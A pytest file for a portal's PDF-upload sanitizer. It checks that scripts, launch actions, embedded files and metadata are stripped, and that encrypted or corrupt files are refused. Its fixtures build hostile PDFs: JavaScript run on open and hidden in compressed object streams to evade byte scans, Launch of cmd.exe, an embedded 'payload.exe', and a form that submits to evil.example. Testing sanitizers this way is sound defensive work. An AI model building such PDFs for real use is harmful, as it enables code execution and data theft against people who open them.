"""PDF uploads: scripts, actions, attached files and metadata are removed from what is stored and published,
whichever form the PDF comes through (report evidence, disclosure and consultation attachments)."""

import io
import re
from pathlib import Path

import pikepdf
import pytest
import sqlalchemy as sa
from pikepdf import Array, Dictionary, Name, String

from portal.extensions import db
from portal.models import ConsultationAttachment, ConsultationKind, DisclosureAttachment, Evidence
from portal.services import pdfs
from tests.console import test_consultations_console as consultation_pages
from tests.console import test_disclosures_console as disclosure_pages
from tests.helpers import post_report, staff_client, submit_report
from tests.services.test_evidence import minimal_pdf

SCRIPT = "app.alert('owned')"
PAYLOAD = b"MZ secret payload"
AUTHOR = "张三 13800138000"
# Dictionary keys and names that mean active content or metadata; none may be left in a stored copy.
ACTIVE_KEYS = {
    "/AA",
    "/JS",
    "/OpenAction",
    "/EF",
    "/XFA",
    "/Metadata",
    "/EmbeddedFiles",
    "/JavaScript",
}
ACTIVE_NAMES = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/ResetForm",
    "/GoToR",
    "/GoToE",
    "/FileAttachment",
    "/EmbeddedFile",
}


def saved(pdf, **options):
    """The bytes of `pdf`, with its objects packed into compressed object streams as modern writers do."""
    out = io.BytesIO()
    pdf.save(
        out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True, **options
    )
    return out.getvalue()


def script_on_open_pdf(pages=2):
    """The finding: a plain document whose /OpenAction runs JavaScript, hidden in a compressed object stream."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
    )
    data = saved(pdf)
    assert b"JavaScript" not in data and b"app.alert" not in data  # invisible to a byte scan
    return data


def hostile_pdf():
    """A three-page PDF with every kind of active content and metadata, packed into object streams."""
    pdf = pikepdf.new()
    for _ in range(3):
        pdf.add_blank_page(page_size=(595, 842))
    js = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT)))
    pdf.Root.OpenAction = js
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String(SCRIPT)))
    first = pdf.pages[0].obj
    first.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    embedded = pikepdf.Stream(pdf, PAYLOAD)
    embedded.Type = Name.EmbeddedFile
    filespec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded))
    )
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), filespec])),
        JavaScript=Dictionary(Names=Array([String("init"), js])),
    )
    rect = Array([72, 72, 144, 144])
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=rect,
        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
        AA=Dictionary(E=js),
    )
    attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=filespec)
    remote = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=rect,
        A=Dictionary(
            S=Name.GoTo,
            D=Array([first, Name.Fit]),
            Next=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
        ),
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("send"),
            Rect=rect,
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
        )
    )
    first.Annots = pdf.make_indirect(
        Array(
            [
                pdf.make_indirect(link),
                pdf.make_indirect(attachment),
                pdf.make_indirect(remote),
                field,
            ]
        )
    )
    pdf.pages[1].obj.AA = Dictionary(C=Dictionary(S=Name.ImportData, F=String("data.fdf")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
    outline = pdf.make_indirect(Dictionary(Title=String("Start"), A=Dictionary(S=Name.ResetForm)))
    pdf.Root.Outlines = pdf.make_indirect(
        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
    )
    outline.Parent = pdf.Root.Outlines
    pdf.docinfo["/Author"] = AUTHOR
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [AUTHOR]
    return saved(pdf)


def assert_clean(data, pages):
    """Re-open a stored PDF: it has `pages` pages and no active content, attached file or metadata anywhere."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == pages
        assert "/Info" not in pdf.trailer
        found = []
        for obj in pdf.objects:
            _walk(obj, found)
        _walk(pdf.Root, found)
        assert found == []
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                content = obj.read_bytes()
                assert (
                    SCRIPT.encode() not in content
                    and PAYLOAD not in content
                    and AUTHOR.encode() not in content
                )


def _walk(obj, found, depth=0):
    if depth > 50:
        return
    if isinstance(obj, pikepdf.Stream):
        obj = obj.stream_dict
    if isinstance(obj, pikepdf.Array):
        for item in obj:
            if (
                isinstance(item, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream))
                and not item.is_indirect
            ):
                _walk(item, found, depth + 1)
    elif isinstance(obj, pikepdf.Dictionary):
        for key in obj:
            value = obj[key]
            if key in ACTIVE_KEYS:
                found.append(key)
            if isinstance(value, pikepdf.Name) and str(value) in ACTIVE_NAMES:
                found.append(str(value))
            if (
                isinstance(value, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream))
                and not value.is_indirect
            ):
                _walk(value, found, depth + 1)


def encrypted_pdf(user=""):
    """A PDF encrypted with an owner password, and a user password unless `user` is empty."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return saved(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user=user))


GARBAGE = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\n"
    + b"\x00\xff" * 64
    + b"\nstartxref\n9\n%%EOF\n"
)


def test_the_builders_make_what_they_say():
    with pikepdf.open(io.BytesIO(hostile_pdf())) as pdf:
        found = []
        for obj in pdf.objects:
            _walk(obj, found)
        assert {
            "/OpenAction",
            "/AA",
            "/JS",
            "/EF",
            "/XFA",
            "/Metadata",
            "/Launch",
            "/FileAttachment",
            "/SubmitForm",
            "/GoToR",
            "/ImportData",
            "/ResetForm",
        } <= set(found)
        assert str(pdf.docinfo["/Author"]) == AUTHOR
    with pytest.raises(pikepdf.PasswordError):
        pikepdf.open(io.BytesIO(encrypted_pdf(user="user-secret")))


# Report evidence: through the public form


def stored_evidence(app):
    """(public bytes, original bytes) of the one evidence file stored."""
    with app.app_context():
        item = db.session.scalar(sa.select(Evidence))
        root = Path(app.config["FILES_DIR"])
        return (root / item.public_path).read_bytes(), (root / item.original_path).read_bytes()


@pytest.mark.parametrize("build, pages", [(script_on_open_pdf, 2), (hostile_pdf, 3)])
def test_evidence_pdf_is_published_clean_and_its_original_kept_for_administrators(
    app, client, build, pages
):
    data = build()
    submit_report(client, files=[("检测报告.pdf", data)])
    public, original = stored_evidence(app)
    assert_clean(public, pages)
    assert original == data


def test_evidence_download_for_staff_is_the_clean_copy(app, client):
    reference, _code = submit_report(client, files=[("检测报告.pdf", hostile_pdf())])
    staff = staff_client(app)
    page = staff.get(f"/console/reports/{reference}").get_data(as_text=True)
    link = re.search(rf'href="(/console/reports/{reference}/evidence/\d+)"', page).group(1)
    download = staff.get(link)
    assert download.status_code == 200 and download.mimetype == "application/pdf"
    assert_clean(download.data, 3)


@pytest.mark.parametrize(
    "data, expected",
    [
        (encrypted_pdf(user="user-secret"), "protected by a password"),
        (encrypted_pdf(), "is encrypted"),
        (GARBAGE, "could not be read as a PDF"),
    ],
)
def test_encrypted_or_unreadable_evidence_pdf_is_refused_under_its_field(
    app, client, data, expected
):
    client.get("/language/en")
    response = post_report(client, files=[("证据.pdf", data)])
    assert response.status_code == 400
    message = re.search(
        r'<p class="field-error" id="evidence-error">([^<]*)</p>', response.get_data(as_text=True)
    )
    assert message and "证据.pdf" in message.group(1) and expected in message.group(1)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(Evidence)) == 0
    assert not list(Path(app.config["FILES_DIR"]).glob("evidence*/**/*.pdf"))


# Attachments: through the console forms; only the clean copy is stored


def stored_attachment(app, model):
    """The bytes of the one attachment stored for `model`."""
    with app.app_context():
        item = db.session.scalar(sa.select(model))
        return (Path(app.config["FILES_DIR"]) / item.path).read_bytes(), item


def test_disclosure_attachment_is_stored_and_published_clean(app):
    jsj = staff_client(app, "jsj", disclosure_pages.UNIT)
    disclosure_id = disclosure_pages.make_disclosure(app)
    response = disclosure_pages.upload(jsj, disclosure_id, "监测报告.pdf", hostile_pdf())
    assert response.status_code == 302
    stored, item = stored_attachment(app, DisclosureAttachment)
    assert_clean(stored, 3)
    assert item.size == len(stored)
    # Nothing but the clean copy is kept: no other file lies in the attachments folder.
    files = [
        p for p in Path(app.config["FILES_DIR"], "disclosure-attachments").rglob("*") if p.is_file()
    ]
    assert len(files) == 1
    disclosure_pages.act(jsj, disclosure_id, "publish", confirm="yes")
    download = app.test_client().get(f"/disclosures/{disclosure_id}/attachments/{item.id}")
    assert download.status_code == 200
    assert_clean(download.data, 3)


def test_consultation_attachment_is_stored_clean(app):
    wjq = staff_client(app, "wjq", consultation_pages.UNIT)
    consultation_id = consultation_pages.make_consultation(app, kind=ConsultationKind.POLICY_DRAFT)
    response = consultation_pages.upload(wjq, consultation_id, "条例草案.pdf", script_on_open_pdf())
    assert response.status_code == 302
    stored, _item = stored_attachment(app, ConsultationAttachment)
    assert_clean(stored, 2)


@pytest.mark.parametrize(
    "data, expected",
    [
        (encrypted_pdf(user="user-secret"), "protected by a password"),
        (GARBAGE, "could not be read as a PDF"),
    ],
)
def test_encrypted_or_unreadable_attachment_is_refused_under_its_field(app, data, expected):
    wjq = staff_client(app, "wjq", consultation_pages.UNIT)
    consultation_id = consultation_pages.make_consultation(app, kind=ConsultationKind.POLICY_DRAFT)
    response = consultation_pages.upload(wjq, consultation_id, "附件.pdf", data)
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and 'id="attachment-file-error"' in page
    assert "附件.pdf" in page and expected in page
    with app.app_context():
        assert (
            db.session.scalar(sa.select(sa.func.count()).select_from(ConsultationAttachment)) == 0
        )


# The service itself


def test_a_plain_pdf_keeps_its_pages(english_context):
    cleaned = pdfs.clean("a.pdf", minimal_pdf())
    assert_clean(cleaned, 1)
    with pikepdf.open(io.BytesIO(cleaned)) as pdf:
        assert b"Evidence" in pdf.pages[0].Contents.read_bytes()


def test_a_harmless_link_survives(english_context):
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 10, 10]),
                    A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/")),
                )
            )
        ]
    )
    with pikepdf.open(io.BytesIO(pdfs.clean("link.pdf", saved(pdf)))) as cleaned:
        assert str(cleaned.pages[0].Annots[0].A.URI) == "https://www.gov.cn/"


def test_leftovers_refuse_the_file(english_context, monkeypatch):
    # As for images, the rewritten file is checked again, and what cleaning missed refuses the file.
    monkeypatch.setattr(pdfs, "_strip", lambda pdf: None)
    with pytest.raises(pdfs.PdfRejected) as refused:
        pdfs.clean("hostile.pdf", hostile_pdf(), field="evidence")
    assert refused.value.field == "evidence" and "hostile.pdf" in refused.value.message
